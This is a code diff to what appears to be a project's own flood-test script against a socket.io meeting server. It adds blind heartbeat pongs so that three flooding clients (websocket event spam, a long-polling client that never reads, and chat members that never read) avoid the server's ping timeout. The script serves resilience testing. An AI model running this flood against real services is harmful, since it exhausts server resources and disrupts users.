@@ -8,7 +8,9 @@
  * - polling-flood: 1 long-polling client that POSTs batches of acked events and never GETs.
  * - paused-chat: 3 members of one meeting that never read, each chatting 90 messages a second
  *   (inside the 100/s budget) with 2,000-character messages (the limit).
- * Each reconnects when the server closes it. Prints one JSON line of counts at the end.
+ * Each answers the server's heartbeat blindly (an engine.io pong, `3`, every second, without reading
+ * the pings), so the server's ping timeout never ends the attack for it, and reconnects when the
+ * server closes it. Prints one JSON line of counts at the end.
  */
 import { randomBytes } from 'node:crypto';
 import { once } from 'node:events';
@@ -78,13 +80,22 @@ async function send(sock: Socket, data: Buffer): Promise<boolean> {
   return !sock.destroyed;
 }
 
+/** True once a second: time for a blind pong. */
+function pongDue(state: { last: number }): boolean {
+  if (Date.now() - state.last < 1000) return false;
+  state.last = Date.now();
+  return true;
+}
+
 async function wsFlooder(): Promise<void> {
   let ackId = 0;
   while (Date.now() < end) {
     const sock = await pausedWebSocket().catch(() => undefined);
     if (!sock) continue;
+    const pong = { last: Date.now() };
     while (Date.now() < end) {
-      const batch = Buffer.concat(Array.from({ length: 50 }, () => frame(`42${ackId++}["check-connection",{"meetingId":"nope"}]`)));
+      const events = Array.from({ length: 50 }, () => frame(`42${ackId++}["check-connection",{"meetingId":"nope"}]`));
+      const batch = Buffer.concat(pongDue(pong) ? [frame('3'), ...events] : events);
       if (!(await send(sock, batch))) break;
       stats.eventsSent += 50;
       await new Promise((r) => setImmediate(r));
@@ -104,9 +115,11 @@ async function pollingFlooder(): Promise<void> {
     stats.connections++;
     const post = (body: string) => fetch(`${base}&sid=${sid}`, { method: 'POST', body, headers: { 'Content-Type': 'text/plain;charset=UTF-8' } }).then((r) => r.status, () => 0);
     if ((await post('40')) !== 200) continue;
+    const pong = { last: Date.now() };
     // Never GET: every reply waits in the server's queue for this session.
     while (Date.now() < end) {
-      const body = Array.from({ length: 400 }, () => `42${ackId++}["check-connection",{"meetingId":"nope"}]`).join('\x1e');
+      const events = Array.from({ length: 400 }, () => `42${ackId++}["check-connection",{"meetingId":"nope"}]`);
+      const body = (pongDue(pong) ? ['3', ...events] : events).join('\x1e');
       if ((await post(body)) !== 200) {
         stats.postsRefused++;
         stats.closedByServer++;
@@ -124,8 +137,10 @@ async function pausedChatter(i: number): Promise<void> {
     const sock = await pausedWebSocket().catch(() => undefined);
     if (!sock) continue;
     await send(sock, frame(`42${ackId++}["join-meeting",{"meetingId":"${meetingId}","displayName":"Paused ${i}"}]`));
+    const pong = { last: Date.now() };
     while (Date.now() < end && !sock.destroyed) {
       const second = Date.now();
+      if (pongDue(pong)) await send(sock, frame('3'));
       for (let k = 0; k < 9 && !sock.destroyed; k++) {
         await send(sock, frame(`42${ackId++}["chat-message",{"text":"${text}"}]`));
         stats.eventsSent++;
